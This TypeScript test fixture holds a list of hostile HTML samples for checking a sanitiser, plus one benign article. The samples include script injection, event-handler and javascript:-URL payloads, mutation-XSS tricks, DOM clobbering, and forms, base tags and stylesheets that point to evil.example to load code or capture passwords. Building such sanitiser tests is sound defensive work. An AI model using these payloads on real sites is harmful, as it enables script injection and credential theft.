/** Filled by any payload that runs; the story checks that it stays empty. */
export const struck: string[] = [];
Object.assign(globalThis, { strike: (by: string) => struck.push(by) });

const hit = (by: string) => `strike('${by}')`;
const script = 'javascript';

/** Text at the end of each payload, which must survive sanitising. */
export const kept = 'What may stay.';

/** Known ways for markup to run scripts, load resources or clobber names of the page. */
export const hostileArticles: readonly (readonly [name: string, html: string])[] = [
  ['script', `<script>${hit('script')}</script>`],
  ['script in upper case', `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`],
  ['script left open', `<script>${hit('open script')}//`.concat('</script>')],
  ['module script', `<script type="module">${hit('module')}</script>`],
  ['image error', `<img src="x:" onerror="${hit('img')}">`],
  ['image without spaces', `<img/src="x:"/onerror=${hit('img slash')}>`],
  ['image source set', `<img srcset="x: 1x" src="https://evil.example/seen.gif">`],
  ['svg load', `<svg onload="${hit('svg')}"><circle r="1"/></svg>`],
  ['svg script', `<svg><script>${hit('svg script')}</script></svg>`],
  ['svg animation', `<svg><a><animate attributeName="href" values="${script}:${hit('animate')}"/></a></svg>`],
  ['svg use', `<svg><use href="data:image/svg+xml,<svg id='x' onload='${hit('use')}'/>#x"/></svg>`],
  [
    'svg foreign object',
    `<svg><foreignObject><iframe srcdoc="<script>1</script>"></iframe></foreignObject></svg>`,
  ],
  [
    'math link',
    `<math><maction actiontype="statusline" xlink:href="${script}:${hit('math')}">m</maction></math>`,
  ],
  [
    'mutation by math',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit('mxss')}&gt;">`,
  ],
  [
    'mutation by form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit('mxss form')}>`,
  ],
  ['mutation by noscript', `<noscript><p title="</noscript><img src=x onerror=${hit('noscript')}>">`],
  ['mutation by svg style', `<svg></p><style><a id="</style><img src=1 onerror=${hit('svg style')}>">`],
  [
    'mutation by select',
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${hit('select')}>">`,
  ],
  ['template', `<template><img src=x onerror=${hit('template')}></template>`],
  [
    'declarative shadow root',
    `<div><template shadowrootmode="open"><script>${hit('shadow')}</script></template></div>`,
  ],
  ['frame', `<iframe src="${script}:parent.${hit('frame')}"></iframe>`],
  ['frame document', `<iframe srcdoc="<script>parent.${hit('srcdoc')}</script>"></iframe>`],
  ['object', `<object data="${script}:${hit('object')}"></object>`],
  ['embed', `<embed src="data:text/html,<script>1</script>">`],
  ['link by script', `<a href="${script}:${hit('link')}">a link</a>`],
  ['link by script, broken up', `<a href="java&#10;script&#58;${hit('broken link')}">a link</a>`],
  ['link by entities', `<a href="&#106;avascript:${hit('entities')}">a link</a>`],
  ['link to data', `<a href="data:text/html,<script>1</script>">a link</a>`],
  ['link into the console', `<a href="/settings/billing">a link</a>`],
  ['link with a false host', `<a href="https://docs.example.com@evil.example/">a link</a>`],
  ['link without encryption', `<a href="http://evil.example/">a link</a>`],
  ['link with a ping', `<a href="https://docs.example.com/" ping="https://evil.example/">a link</a>`],
  [
    'link that drives the opener',
    `<a href="https://docs.example.com/" target="_self" rel="opener">a link</a>`,
  ],
  ['link that clicks itself', `<a href="#" autofocus onfocus="${hit('autofocus')}" tabindex="1">a link</a>`],
  [
    'any element',
    `<xss onpointerrawupdate="${hit('xss')}" style="animation: x" onanimationstart="${hit('animation')}">x</xss>`,
  ],
  ['details', `<details open ontoggle="${hit('details')}">x</details>`],
  [
    'media',
    `<video><source onerror="${hit('video')}"></video><audio src="x:" onerror="${hit('audio')}"></audio>`,
  ],
  ['marquee', `<marquee onstart="${hit('marquee')}">x</marquee>`],
  ['body', `<body onload="${hit('body')}">x`],
  ['cover the page', `<div style="position:fixed;inset:0;background:url(https://evil.example/seen)">x</div>`],
  ['style sheet', `<style>@import 'https://evil.example/x.css'; body { display: none }</style>`],
  [
    'style attributes in every spelling',
    `<p STYLE="color:red">x</p><p style=color:red>y</p><p/sTyLe='a:b'>z</p>`,
  ],
  ['styled attributes of a link', `<a style="color:red" href="https://docs.example.com/style">a link</a>`],
  ['style left open', `<p>x</p><style>body { display: none }`],
  [
    'style in a table',
    `<table><style>td { display: none }</style><tr style="color:red"><td>x</td></tr></table>`,
  ],
  ['styled svg', `<svg style="color:red"><style>* { color: red }</style><g style="a:b"/></svg>`],
  ['styled math', `<math style="color:red"><mi style="color:red">x</mi></math>`],
  ['style that was broken up before', `<p st\uFDD0yle="color:red">x</p><st\uFDD0yle>body { }</st\uFDD0yle>`],
  ['style by entities', `<p &#115;tyle="color:red" st&#121;le="a:b">x</p>`],
  ['style with a null', `<p st\0yle="color:red">x</p>`],
  [
    'handlers after every separator',
    `<p\tonclick=x\nonfocus=x\fonblur=x\ronkeyup=x/ONINPUT=x title="x"onload=x>x</p>`,
  ],
  ['base in every spelling', `<BASE HREF="https://evil.example/"><base/href="https://evil.example/"></base>`],
  ['linked sheet', `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ['refresh', `<meta http-equiv="refresh" content="0;url=https://evil.example/">`],
  ['base', `<base href="https://evil.example/">`],
  [
    'form',
    `<form action="https://evil.example/"><input name="password"><button formaction="x">Sign in</button></form>`,
  ],
  ['form owner', `<button form="login" formaction="${script}:${hit('formaction')}">x</button>`],
  ['clobber by id', `<p id="getElementById">x</p><p id="cookie">y</p>`],
  ['clobber by name', `<form name="body"></form><img name="createElement"><a name="documentElement">z</a>`],
  [
    'clobber in depth',
    `<form id="defaultView"><input id="top" name="top"></form><a id="config"></a><a id="config" name="url" href="https://evil.example">a</a>`,
  ],
  [
    'clobber the sanitiser',
    `<form><input name="attributes"><input name="nodeName"><input name="removeChild" onfocus="${hit('clobber')}" autofocus></form>`,
  ],
  ['custom element', `<p is="x-app">x</p><x-app onclick="${hit('custom')}">y</x-app>`],
  ['aria disguise', `<p role="alert" aria-label="Your session has ended" data-action="logout">x</p>`],
  ['a comment that closes', `<!--><img src=x onerror=${hit('comment')}>-->`],
  [
    'a doctype and a cdata',
    `<!DOCTYPE x [<!ENTITY y "${hit('doctype')}">]><![CDATA[<script>${hit('cdata')}</script>]]>`,
  ],
  ['very deep', '<div>'.repeat(5_000)],
  ['left open', `<p title="`.concat(`x"><b><i><u><table><tr><td`, '>')],
];

export const goodArticle = `<h1>What to prepare</h1>
<p>You need <strong>a user</strong> that may <em>read</em>, see <a href="https://docs.example.com/postgres?v=1">the guide</a>.</p>
<h2>Grants</h2>
<ol><li>Open a session as <code>postgres</code>.</li><li>Run this:</li></ol>
<pre><code>CREATE USER millrace_reader;
GRANT SELECT ON ALL TABLES IN SCHEMA public TO millrace_reader;</code></pre>
<blockquote>On the base of the <i>style</i> guide: <code>style="SQL"</code></blockquote>
<table><thead><tr><th>Setting</th><th>Value</th></tr></thead><tbody><tr><td>wal_level</td><td>logical</td></tr></tbody></table>
<ul><li>1 &lt; 2 &amp; 3</li></ul>`;
